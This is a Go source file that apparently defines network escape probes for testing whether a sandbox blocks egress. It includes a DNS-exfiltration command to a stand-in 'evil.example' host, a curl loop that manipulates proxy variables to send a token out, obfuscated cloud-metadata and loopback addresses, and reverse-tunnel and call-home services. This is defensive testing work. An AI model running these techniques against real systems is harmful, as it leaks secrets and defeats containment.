package catalogue

import "github.com/bailey-project/bailey/internal/probe"

func network() []probe.Probe {
	return []probe.Probe{
		{ID: "G01", Attack: "Connect by TCP, IPv4 and IPv6, with no regard to proxies", Call: "tcp", Args: list("any"), Stop: by(gate, probe.Closed, probe.Silent, "ECONNREFUSED"), Source: "proxy variables are a courtesy"},
		{ID: "G02", Attack: "Send with the first packet (TCP Fast Open)", Call: "fastOpen", Stop: by(gate, probe.Closed, probe.Silent, "ECONNREFUSED", "EOPNOTSUPP"), Source: "Landlock's TCP rules miss it"},
		{ID: "G03", Attack: "Connect by multipath TCP", Call: "mptcp", Stop: by(filter, "EPROTONOSUPPORT"), Source: "Landlock's TCP rules miss it"},
		{ID: "G04", Attack: "Use SCTP, SMC, DCCP, UDP-Lite or TIPC", Call: "otherTransports", Stop: by(filter, "EPERM", "EPROTONOSUPPORT"), Source: "Landlock erratum 1"},
		{ID: "G05", Attack: "Reach another host on a port that is allowed for one", Call: "tcp", Args: list("80", "443"), Stop: by(gate, probe.Closed, probe.Silent, "ECONNREFUSED"), Source: "rules by port only"},
		{ID: "G06", Attack: "Send by UDP", Call: "udp", Stop: by(netns, probe.Silent, "ECONNREFUSED", "ENETUNREACH")},
		{ID: "G07", Attack: "Send by UDP otherwise: mapped addresses, broadcast, multicast, many at once, segments", Call: "udpOdd", Stop: by(netns, probe.Silent, "ECONNREFUSED", "ENETUNREACH", "EACCES", "EPERM")},
		{ID: "G08", Attack: "Use QUIC past a proxy for TCP", Call: "quic", Stop: by(netns, probe.Silent, "ECONNREFUSED")},
		{ID: "G09", Attack: "Carry data in pings", Call: "ping", Caps: true, Stop: by(filter, "EPERM", "EPROTONOSUPPORT", "EACCES")},
		{ID: "G10", Attack: "Carry data in names that the C library resolves", Shell: `getent hosts "$TOKEN.x.evil.example" && echo GOT an address`, Stop: by(gate, probe.Nothing), Source: "CVE-2025-55284"},
		{ID: "G11", Attack: "Ask name servers directly: UDP, TCP, DNS over TLS", Call: "dns", Stop: by(gate, probe.NoName, probe.Closed, probe.Silent, "ECONNREFUSED")},
		{ID: "G14", Attack: "Fetch commands in TXT records", Call: "dnsTXT", Stop: by(gate, probe.NoName), Source: "a repository whose set-up asked a TXT record, June 2026"},
		socketRow("G13", "Let a resolver of the host ask", "", "/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve", "/run/avahi-daemon/socket"),
		{ID: "G16", Attack: "Speak SMTP, IRC, ssh, git, rsync, FTP, telnet", Call: "tcp", Args: list("25", "6667", "22", "9418", "873", "21", "23"), Stop: by(gate, probe.Closed, probe.Silent, "ECONNREFUSED")},
		{ID: "G17", Attack: "Ask the cloud's metadata service, in every spelling", Call: "http", Args: list("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "[fd00:ec2::254]",
			"[::ffff:169.254.169.254]", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376"), Stop: by(gate, probe.Closed, probe.Silent, "ECONNREFUSED", probe.NoName)},
		{ID: "G18", Attack: "Reach the host's loopback by other names and numbers", Call: "http", Args: list("localhost.", "127.1", "0", "0.0.0.0", "2130706433", "017700000001", "[::]", "[::ffff:127.0.0.1]", "127.0.0.1"),
			Stop: by(netns, probe.Closed, probe.Silent, "ECONNREFUSED", probe.NoName)},
		{ID: "G19", Attack: "Reach private, shared and special ranges", Call: "http", Args: list("10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "192.0.0.8", "240.0.0.1", "[fc00::1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"),
			Stop: by(gate, probe.Closed, probe.Silent, "ECONNREFUSED")},
		{ID: "G20", Attack: "Aim at the gateway's stable addresses directly", Call: "tcpTo", Args: list("198.18.0.1:443", "198.18.0.2:443", "198.18.0.1:80"), Stop: by(gate, probe.Closed, probe.Silent, "ECONNREFUSED")},
		{ID: "G23", Attack: "Go through a relay of one's own", Call: "relayed", Stop: by(gate, probe.Closed, probe.Silent, "ECONNREFUSED"), Source: "proxies that trust one process"},
		{ID: "G24", Attack: "Change the proxy variables", Stop: by(gate, probe.Nothing, "ECONNREFUSED"),
			Shell: `for p in '' http://127.0.0.1:$PORT socks5h://127.0.0.1:$PORT; do NO_PROXY='*' HTTPS_PROXY=$p HTTP_PROXY=$p http_proxy=$p curl -sS -m2 "http://$EXT:$PORT/$TOKEN" | grep SINK && echo GOT an answer; done; true`},
		{ID: "G25", Attack: "Make tunnels and interfaces of one's own", Call: "tunnels", Caps: true, Stop: by(noCaps, "EPERM", "ENOENT", "EACCES")},
		{ID: "G26", Attack: "Join another network namespace", Call: "joinNet", Caps: true, Stop: by(filter, "EPERM", "ENOENT", "EACCES")},
		{ID: "G27", Attack: "Be reached from the network: a listener inside", Scene: "inbound", Stop: by(netns, "ECONNREFUSED")},
		{ID: "G28", Attack: "Open a reverse tunnel at a service made for that", Call: "namedTCP", Args: list("x.trycloudflare.com", "tunnel.us.ngrok.com", "global.rel.tunnels.api.visualstudio.com", "controlplane.tailscale.com"),
			Stop: by(gate, probe.NoName), Source: "an editor's own tunnel, used against its user"},
		{ID: "G29", Attack: "Call home to chat, paste and blockchain services", Call: "namedTCP", Args: list("discord.com", "api.telegram.org", "filev2.getsession.org", "icp0.io", "webhook.site", "pastebin.com", "transfer.sh"),
			Stop: by(gate, probe.NoName), Source: "npm worms of 2025 and 2026"},
		{ID: "G30", Attack: "Rewrite the rules and routes of the network inside", Call: "netConfig", Caps: true, Stop: by(filter+", "+noCaps, "EPERM")},
	}
}
